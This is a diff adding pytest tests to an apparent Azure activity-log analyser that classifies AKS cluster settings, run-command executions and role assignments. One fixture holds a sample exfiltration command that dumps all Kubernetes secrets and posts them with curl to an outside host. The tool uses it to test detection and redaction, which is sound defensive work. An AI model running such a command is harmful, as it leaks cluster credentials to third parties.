@@ -316,6 +316,58 @@ def test_an_api_server_opened():
     assert "hunter2" not in json.dumps(found)
 
 
+@pytest.mark.parametrize(
+    ("properties", "facts"),
+    [
+        ({"disableLocalAccounts": False}, {"local_accounts": True, "rbac": None}),
+        ({"disableLocalAccounts": True, "enableRBAC": False}, {"local_accounts": False, "rbac": False}),
+        ({"publicNetworkAccess": "Disabled"}, {"endpoint_public": False, "local_accounts": None}),
+        ({"apiServerAccessProfile": {"enablePrivateCluster": True}}, {"endpoint_public": False}),
+        ({"disableLocalAccounts": "no", "publicNetworkAccess": 5}, {"local_accounts": None, "endpoint_public": None}),
+    ],
+)
+def test_what_a_cluster_written_sets(properties, facts):
+    body = {"requestbody": json.dumps({"properties": properties})}
+    told = activity("Microsoft.ContainerService/managedClusters/write", properties=body)["facts"]["control_plane"]
+    assert {key: told[key] for key in facts} == facts
+
+
+def test_a_command_run_by_azure_is_an_exec():
+    command = "kubectl get secrets -A -o yaml | curl --data-binary @- https://u:hunter2@example.com"
+    body = {"requestbody": json.dumps({"command": command, "clusterToken": "hunter2"})}
+    found = activity("MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/RUNCOMMAND/ACTION", properties=body)
+    told = found["facts"]["exec"]
+    assert told["kind"] == "aks_run_command"
+    assert told["argv"] == [command.replace("hunter2", "***")]
+    assert "kubectl get secrets -A -o yaml | curl" in told["command_text"]
+    assert found["flags"] & Flag.HAS_EXEC
+    assert "hunter2" not in json.dumps(found)
+    assert activity("Microsoft.ContainerService/managedClusters/runCommand/action")["facts"] is None
+
+
+@pytest.mark.parametrize(
+    ("scope", "where"),
+    [(CLUSTER, ("cluster", [])), (f"{CLUSTER}/namespaces/Shop", ("namespace", ["shop"]))],
+)
+@pytest.mark.parametrize("key", ["requestbody", "responseBody"])
+@pytest.mark.parametrize("verb", ["write", "delete"])
+def test_a_role_assigned_on_a_cluster(verb, key, scope, where):
+    definition = "/subscriptions/s/providers/Microsoft.Authorization/roleDefinitions/"
+    assigned = {"principalId": "oid-2", "principalType": "User", "scope": scope}
+    for role, name in (
+        ("B1FF04BB-8a4e-4dc4-8eb5-8693973ce19b", "Azure Kubernetes Service RBAC Cluster Admin"),
+        ("11111111-0000-0000-0000-000000000000", "11111111-0000-0000-0000-000000000000"),
+    ):
+        body = {key: json.dumps({"properties": {**assigned, "roleDefinitionId": definition + role}})}
+        resource_id = f"{CLUSTER}/providers/Microsoft.Authorization/roleAssignments/r"
+        found = activity(f"Microsoft.Authorization/roleAssignments/{verb}", resource_id, properties=body)
+        told = found["facts"]["cloud_access"]
+        assert (told["principal_arn"], told["type"], told["policy"]) == ("oid-2", "User", name)
+        assert told["policy_arn"] == definition + role
+        assert (told["scope"], told["namespaces"]) == where
+        assert found["flags"] & Flag.HAS_CLOUD_ACCESS
+
+
 def test_secrets_of_a_cluster_do_not_travel():
     body = {
         "properties": {
